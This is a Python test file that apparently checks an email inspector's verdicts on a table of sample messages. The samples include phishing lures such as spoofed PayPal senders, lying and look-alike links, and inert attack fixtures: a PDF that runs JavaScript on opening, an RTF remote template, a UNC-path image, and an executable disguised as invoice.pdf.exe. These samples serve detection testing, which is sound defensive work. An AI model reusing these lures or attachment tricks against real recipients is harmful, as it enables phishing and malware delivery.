"""The verdict table: one small message per row, and the four answers it must get (issue 20).

Columns: the threat answer, the tracking answer, the overall level and the banner state the window
shows. Every rule of `inspector/analysis/verdict.py` has rows here: the axis of each kind of code, the
weak signals that count only together, the targeted pixel, the impostor that identifies you, and the
shapes of real mail (person to person, mailing lists, newsletters, phishing, attacks in attachments).
"""

from __future__ import annotations

import pytest
from verdict_cases import (
    DDE_DOCUMENT,
    DOCX_TYPE,
    ENTRY,
    LIST,
    MAILCHIMP_PIXEL,
    NEWS_AUTH,
    NEWS_ENTRY,
    NEWS_FROM,
    OWN_PIXEL,
    OWN_PIXEL_MD5,
    PLAIN_PIXEL,
    TEMPLATE_RELS,
    docx,
    mail,
    page,
)

from inspector.analysis import analyse
from inspector.analysis.axes import ATTACK_CODES, TRACKING_CODES, axis_of
from inspector.model import Report, Severity
from inspector.parsing import load_bytes

NEWS = {"set": NEWS_FROM, "received": (NEWS_ENTRY,), "auth": NEWS_AUTH}
GMX = {
    "set": {
        "From": "Marc Lenoir <marc.lenoir.press@gmx.net>",
        "Return-Path": "<marc.lenoir.press@gmx.net>",
        "Message-ID": "<x1@gmx.net>",
    },
    "received": (NEWS_ENTRY.replace("mail.le-quotidien-news.net", "mout.gmx.net"),),
    "auth": "mx1.parl-test.be; spf=pass smtp.mailfrom=gmx.net; dmarc=pass header.from=gmx.net",
}
AUTH_FAIL = (
    "mx1.parl-test.be; spf=fail smtp.mailfrom=partner-mail.eu; dkim=fail header.d=partner-mail.eu; "
    "dmarc=fail header.from=partner-mail.eu"
)
PDF_JS = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF"


def _with(base: dict, **more: object) -> dict:
    merged = dict(base)
    if "set" in more:
        merged["set"] = {**base.get("set", {}), **more.pop("set")}  # type: ignore[dict-item]
    return {**merged, **more}


# (name, message, threat, tracking, level, banner)
ROWS: list[tuple[str, bytes, str, str, str, str]] = [
    # --- person to person: nothing to say ---------------------------------------------------------------
    ("plain person mail", mail(), "clean", "none", "clean", "clean"),
    (
        "reply in a thread",
        mail(
            set={
                "Subject": "Re: Meeting notes",
                "In-Reply-To": "<a@partner-mail.eu>",
                "References": "<a@partner-mail.eu>",
            }
        ),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    ("html mail, no remote load", mail(html=page("<p>Agenda attached.</p>")), "clean", "none", "clean", "clean"),
    (
        "a PDF attached",
        mail(attach=((b"%PDF-1.4\n%%EOF", "agenda.pdf", "application/pdf"),)),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    (
        "a link that shows its own address",
        mail(html=page('<a href="https://partner-mail.eu/agenda">partner-mail.eu/agenda</a>')),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    # --- weak signals: info alone, caution together ------------------------------------------------------
    ("undisclosed recipients alone", mail(set={"To": "undisclosed-recipients:;"}), "clean", "none", "clean", "clean"),
    ("Re: without a thread alone", mail(set={"Subject": "Re: your invoice"}), "clean", "none", "clean", "clean"),
    (
        "your address in the subject alone",
        mail(set={"Subject": "anne.dupont@parl-test.be: your mailbox"}),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    (
        "Outlook claimed without Outlook's headers alone",
        mail(extra=(("X-Mailer", "Microsoft Outlook 16.0"),)),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    (
        "a form posting elsewhere alone",
        mail(html=page('<form action="https://survey.partner-mail.eu/s"><input name="q"></form>')),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    (
        "two weak signals together",
        mail(set={"To": "undisclosed-recipients:;", "Subject": "Re: your invoice"}),
        "caution",
        "none",
        "caution",
        "caution",
    ),
    (
        "a weak signal and a shortener",
        mail(set={"Subject": "Re: your invoice"}, html=page('<a href="https://bit.ly/3xYzAb">the invoice</a>')),
        "caution",
        "none",
        "caution",
        "caution",
    ),
    (
        "one shortened link",
        mail(html=page('<a href="https://bit.ly/3xYzAb">the agenda</a>')),
        "caution",
        "none",
        "caution",
        "caution",
    ),
    ("a bad date alone is a form signal", mail(set={"Date": "not a date"}), "caution", "none", "caution", "caution"),
    (
        "form signals never make suspicious",
        mail(set={"Date": "not a date", "Message-ID": "<broken"}),
        "caution",
        "none",
        "caution",
        "caution",
    ),
    (
        "three signs of a lure add up to suspicious",
        mail(
            set={"Subject": "Re: your invoice", "To": "undisclosed-recipients:;"},
            html=page(
                '<a href="https://bit.ly/3xYzAb">the invoice</a><a href="https://tinyurl.com/y4bc">pay</a>'
                "<script>var a=1;</script>"
            ),
        ),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    # --- newsletters and lists: tracked, calm --------------------------------------------------------------
    ("mailing list message", mail(extra=tuple(LIST.items())), "clean", "none", "clean", "clean"),
    (
        "newsletter through Mailchimp, subscriber id",
        mail(extra=tuple(LIST.items()), html=page(MAILCHIMP_PIXEL)),
        "clean",
        "identified",
        "tracked",
        "tracked",
    ),
    (
        "newsletter pixel without a token",
        mail(extra=tuple(LIST.items()), html=page(PLAIN_PIXEL)),
        "clean",
        "tracked",
        "tracked",
        "tracked",
    ),
    (
        "newsletter with remote pictures",
        mail(
            extra=tuple(LIST.items()),
            html=page('<img src="https://cdn.partner-mail.eu/hero.jpg" width="600" height="300">'),
        ),
        "clean",
        "tracked",
        "tracked",
        "tracked",
    ),
    (
        "read receipt asked by the sender",
        mail(extra=(("Disposition-Notification-To", "alice@partner-mail.eu"),)),
        "clean",
        "tracked",
        "tracked",
        "tracked",
    ),
    (
        "a remote style sheet",
        mail(html=page('<link rel="stylesheet" href="https://cdn.partner-mail.eu/s.css">')),
        "clean",
        "tracked",
        "tracked",
        "tracked",
    ),
    (
        "an embedded remote page is tracking",
        mail(html=page('<iframe src="https://partner-mail.eu/w"></iframe>')),
        "clean",
        "tracked",
        "tracked",
        "tracked",
    ),
    # --- the targeted pixel: never green -------------------------------------------------------------------
    (
        "news outlet pixel with your address, own server",
        mail(**NEWS, html=page(OWN_PIXEL)),
        "clean",
        "identified",
        "caution",
        "targeted",
    ),
    (
        "own-server pixel with a hash of your address",
        mail(**NEWS, html=page(OWN_PIXEL_MD5)),
        "clean",
        "identified",
        "caution",
        "targeted",
    ),
    (
        "own-server pixel naming you, plus a weak signal",
        mail(**_with(NEWS, set={"To": "undisclosed-recipients:;"}), html=page(OWN_PIXEL)),
        "clean",
        "identified",
        "suspicious",
        "suspicious",
    ),
    (
        "free-mail 'journalist' with a pixel naming you",
        mail(**GMX, html=page(OWN_PIXEL)),
        "clean",
        "identified",
        "suspicious",
        "suspicious",
    ),
    (
        "outlet's name on another domain, pixel naming you",
        mail(**_with(NEWS, set={"From": "Le Soir <redaction@le-quotidien-news.net>"}), html=page(OWN_PIXEL)),
        "suspicious",
        "identified",
        "dangerous",
        "dangerous",
    ),
    (
        "own-server pixel without a token is only tracked",
        mail(**NEWS, html=page('<img src="https://img.le-quotidien-news.net/o.gif" width="1" height="1">')),
        "clean",
        "tracked",
        "tracked",
        "tracked",
    ),
    (
        "your address in a link only: tracked link, not targeted",
        mail(**NEWS, html=page(f'<a href="https://le-quotidien-news.net/r?e={OWN_PIXEL[45:70]}">read</a>')),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    (
        "a pixel naming you on instant hosting",
        mail(**NEWS, html=page('<img src="https://o.news-pix.workers.dev/p?e=anne.dupont@parl-test.be" width="1">')),
        "clean",
        "identified",
        "suspicious",
        "suspicious",
    ),
    # --- attacks: threats wherever they are found ---------------------------------------------------------
    (
        "docx with a DDEAUTO field",
        mail(attach=((docx(document=DDE_DOCUMENT), "brief.docx", DOCX_TYPE),)),
        "dangerous",
        "none",
        "dangerous",
        "dangerous",
    ),
    (
        "docx with a remote template",
        mail(attach=((docx(TEMPLATE_RELS), "brief.docx", DOCX_TYPE),)),
        "dangerous",
        "tracked",
        "dangerous",
        "dangerous",
    ),
    (
        "docx with both",
        mail(attach=((docx(TEMPLATE_RELS, DDE_DOCUMENT), "questions.docx", DOCX_TYPE),)),
        "dangerous",
        "tracked",
        "dangerous",
        "dangerous",
    ),
    (
        "image from a Windows share in the body",
        mail(html=page('<img src="\\\\files.evil-share.net\\s\\y.png">')),
        "dangerous",
        "tracked",
        "dangerous",
        "dangerous",
    ),
    (
        "RTF with a remote template",
        mail(attach=((b"{\\rtf1{\\*\\template https://rtf.evil-docs.net/t.dot}}", "a.rtf", "application/rtf"),)),
        "dangerous",
        "tracked",
        "dangerous",
        "dangerous",
    ),
    (
        "a program attached",
        mail(attach=((b"MZ\x90\x00" + bytes(60), "update.exe", "application/octet-stream"),)),
        "dangerous",
        "none",
        "dangerous",
        "dangerous",
    ),
    (
        "a program behind a document name",
        mail(attach=((b"MZ\x90\x00" + bytes(60), "invoice.pdf.exe", "application/octet-stream"),)),
        "dangerous",
        "none",
        "dangerous",
        "dangerous",
    ),
    (
        "a web page attached",
        mail(attach=((b"<html><body>login</body></html>", "statement.html", "text/html"),)),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "a macro-enabled document attached",
        mail(attach=((docx(), "budget.docm", "application/vnd.ms-word.document.macroEnabled.12"),)),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "a PDF that runs JavaScript on opening",
        mail(attach=((PDF_JS, "scan.pdf", "application/pdf"),)),
        "suspicious",
        "tracked",
        "suspicious",
        "suspicious",
    ),
    (
        "a remote plug-in object",
        mail(html=page('<object data="https://evil-docs.net/x.swf"></object>')),
        "suspicious",
        "tracked",
        "suspicious",
        "suspicious",
    ),
    (
        "an automatic redirect",
        mail(
            html='<html><head><meta http-equiv="refresh" content="0;url=https://evil-docs.net/"></head><body>x</body></html>'
        ),
        "suspicious",
        "tracked",
        "suspicious",
        "suspicious",
    ),
    # --- the sender is not who it claims to be ------------------------------------------------------------
    (
        "a brand's name on another domain",
        mail(set={"From": "PayPal <service@pp-accounts-mail.net>"}),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "an address shown in the name",
        mail(set={"From": '"service@paypal.com" <x@pp-accounts-mail.net>'}),
        "dangerous",
        "none",
        "dangerous",
        "dangerous",
    ),
    (
        "the recipient's domain failed DMARC",
        mail(auth=AUTH_FAIL),
        "dangerous",
        "none",
        "dangerous",
        "dangerous",
    ),
    (
        "replies go to free-mail from a company",
        mail(set={"Reply-To": "alice.martin.office@gmail.com"}),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "a read receipt to a third party",
        mail(extra=(("Disposition-Notification-To", "collect@receipts-hub.net"),)),
        "suspicious",
        "tracked",
        "suspicious",
        "suspicious",
    ),
    (
        "an impostor with a Mailchimp id",
        mail(set={"From": "PayPal <service@pp-accounts-mail.net>"}, html=page(MAILCHIMP_PIXEL)),
        "suspicious",
        "identified",
        "dangerous",
        "dangerous",
    ),
    (
        "spam that tracks is not an impostor",
        mail(html=page(MAILCHIMP_PIXEL), top=(("X-Spam-Status", "Yes, score=9.1 required=5.0"),)),
        "suspicious",
        "identified",
        "suspicious",
        "suspicious",
    ),
    # --- links that lie ---------------------------------------------------------------------------------------
    (
        "a link showing paypal.com that goes elsewhere",
        mail(html=page('<a href="https://login-check.evil-docs.net/p">https://www.paypal.com/signin</a>')),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "a lying link is not an impostor by itself",
        mail(**NEWS, html=page('<a href="https://login-check.evil-docs.net/p">www.paypal.com</a>' + OWN_PIXEL)),
        "suspicious",
        "identified",
        "suspicious",
        "suspicious",
    ),
    (
        "a link to a bare IP address",
        mail(html=page('<a href="http://203.0.113.50/login">sign in</a>')),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "a link to free hosting",
        mail(html=page('<a href="https://invoice-4471.web.app/">the invoice</a>')),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "only a mailto to free-mail",
        mail(html=page('<p>Urgent: write to <a href="mailto:claims.office@gmail.com">our claims office</a>.</p>')),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "a look-alike link in another alphabet",
        mail(html=page('<a href="https://xn--pypal-4ve.com/">pаypal</a>')),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    # --- the shapes of issue 20 -------------------------------------------------------------------------------
    (
        "PayPal with a self-written stamp and no sender hop",
        mail(
            set={"From": "PayPal <service@paypal.com>", "Return-Path": "<bounce@vps1.evil-host.net>"},
            received=(
                ENTRY.replace("mail.partner-mail.eu (mail.partner-mail.eu", "vps1.evil-host.net (vps1.evil-host.net"),
            ),
            auth=None,
            extra=(
                (
                    "Authentication-Results",
                    "mx1.parl-test.be; spf=pass smtp.mailfrom=paypal.com; dkim=pass header.d=paypal.com; "
                    "dmarc=pass header.from=paypal.com",
                ),
            ),
            text="Your account is limited. Confirm at https://paypal.com-verify.info/login today.\n",
        ),
        "dangerous",
        "none",
        "dangerous",
        "dangerous",
    ),
    (
        "a brand's domain as the start of another, in a plain-text link",
        mail(text="Your parcel is waiting: https://paypal.com-verify.info/login\n"),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "a brand in the display name only",
        mail(set={"From": '"Stellar.org" <rewards@merino-hermanos.example>'}),
        "suspicious",
        "none",
        "suspicious",
        "suspicious",
    ),
    (
        "a brand glued into the sender's domain",
        mail(set={"From": "Coca-Cola NFT <drop@coinbasecola.com>"}),
        "dangerous",
        "none",
        "dangerous",
        "dangerous",
    ),
    (
        "newsletter through its own click counter",
        mail(
            extra=tuple(LIST.items()),
            html=page('<a href="https://click.partner-mail.eu/c?u=8812">partner-mail.eu</a>' + MAILCHIMP_PIXEL),
        ),
        "clean",
        "identified",
        "tracked",
        "tracked",
    ),
    (
        "a book title that looks like a domain",
        mail(html=page('<a href="https://books.partner-mail.eu/aspnet">Learning ASP.NET in 21 days</a>')),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    (
        "a parcel service's own domain without DKIM",
        mail(
            set={"From": "DHL Paket <noreply@dhl.de>", "Return-Path": "<bounce@dhl.de>"},
            received=(ENTRY.replace("mail.partner-mail.eu (mail.partner-mail.eu", "mx.dhl.de (mx.dhl.de"),),
            auth=None,
        ),
        "clean",
        "none",
        "clean",
        "clean",
    ),
    # --- damaged form --------------------------------------------------------------------------------------
    (
        "a multipart without its boundary",
        b"From: Alice Martin <alice@partner-mail.eu>\r\nTo: anne.dupont@parl-test.be\r\n"
        b"Subject: x\r\nDate: Mon, 6 Jan 2025 09:59:58 +0100\r\nMessage-ID: <b1@partner-mail.eu>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed\r\n\r\nbody\r\n",
        "caution",
        "none",
        "caution",
        "caution",
    ),
]


@pytest.fixture(scope="module")
def reports() -> dict[str, Report]:
    return {name: analyse(load_bytes(data)) for name, data, *_ in ROWS}


def test_the_table_has_enough_rows() -> None:
    assert len(ROWS) >= 60 and len({r[0] for r in ROWS}) == len(ROWS)


@pytest.mark.parametrize(("name", "threat", "tracking", "level", "banner"), [(r[0], *r[2:]) for r in ROWS])
def test_verdict_table(
    reports: dict[str, Report], name: str, threat: str, tracking: str, level: str, banner: str
) -> None:
    verdict = reports[name].verdict
    got = (str(verdict.threat), str(verdict.tracking), str(verdict.level), verdict.banner)
    shown = [(f.code, str(f.severity)) for f in reports[name].findings if f.severity != Severity.INFO]
    assert got == (threat, tracking, level, banner), (got, shown)


@pytest.mark.parametrize("name", [r[0] for r in ROWS])
def test_one_answer(reports: dict[str, Report], name: str) -> None:
    """No finding worse than the banner, and a sentence and advice for every state."""
    verdict = reports[name].verdict
    floor = {"high": 4, "medium": 3, "low": 2, "info": 0}
    order = ["clean", "tracked", "caution", "suspicious", "dangerous"]
    for finding in reports[name].findings:
        assert finding.axis == axis_of(finding.code)
        if finding.axis == "threat":
            assert order.index(str(verdict.level)) >= floor[str(finding.severity)], finding.code
    assert verdict.reason and verdict.advice


def test_a_weak_signal_alone_says_why_it_is_info(reports: dict[str, Report]) -> None:
    finding = next(f for f in reports["undisclosed recipients alone"].findings if f.code == "UNDISCLOSED_RECIPIENTS")
    assert finding.severity == Severity.INFO and "does not change the verdict" in finding.explanation
    together = reports["two weak signals together"].findings
    assert {f.code: str(f.severity) for f in together}["UNDISCLOSED_RECIPIENTS"] == "low"


def test_the_targeted_pixel_says_why_in_plain_words(reports: dict[str, Report]) -> None:
    verdict = reports["news outlet pixel with your address, own server"].verdict
    assert "you, personally, opened it" in verdict.reason and "its own server" in verdict.reason
    assert "img.le-quotidien-news.net" in verdict.tracking_reason
    newsletter = reports["newsletter through Mailchimp, subscriber id"].verdict
    assert "Mailchimp" in newsletter.tracking_reason and "records the opening" in newsletter.tracking_reason


def test_advice_says_what_to_do(reports: dict[str, Report]) -> None:
    dangerous = " ".join(reports["docx with a DDEAUTO field"].verdict.advice)
    assert "Do not click" in dangerous and "as an attachment to your security contact" in dangerous
    targeted = " ".join(reports["news outlet pixel with your address, own server"].verdict.advice)
    assert "that it was you" in targeted
    assert len(reports["plain person mail"].verdict.advice) == 1


def test_every_attack_code_is_a_threat_and_every_pixel_tracking() -> None:
    assert not ATTACK_CODES & TRACKING_CODES
    assert axis_of("DDE_FIELD") == axis_of("REMOTE_TEMPLATE") == axis_of("UNC_PATH") == "threat"
    assert axis_of("TRACKING_PIXEL") == axis_of("REMOTE_IMAGE") == "tracking"


def test_fail_on_follows_the_new_levels(tmp_path, capsys) -> None:
    """`--fail-on tracked` catches a newsletter, `--fail-on caution` a targeted pixel but not a newsletter."""
    from inspector.cli import main

    data = {name: message for name, message, *_ in ROWS}
    newsletter = tmp_path / "newsletter.eml"
    newsletter.write_bytes(data["newsletter through Mailchimp, subscriber id"])
    targeted = tmp_path / "targeted.eml"
    targeted.write_bytes(data["news outlet pixel with your address, own server"])
    person = tmp_path / "person.eml"
    person.write_bytes(data["plain person mail"])

    def status(*args: str) -> int:
        code = main(["scan", "--quiet", "--jobs", "1", "--format", "json", *args])
        capsys.readouterr()
        return code

    assert status("--fail-on", "tracked", str(newsletter)) == 3
    assert status("--fail-on", "caution", str(newsletter)) == 0
    assert status("--fail-on", "caution", str(targeted)) == 3
    assert status("--fail-on", "suspicious", str(targeted)) == 0
    assert status("--fail-on", "tracked", str(person)) == 0
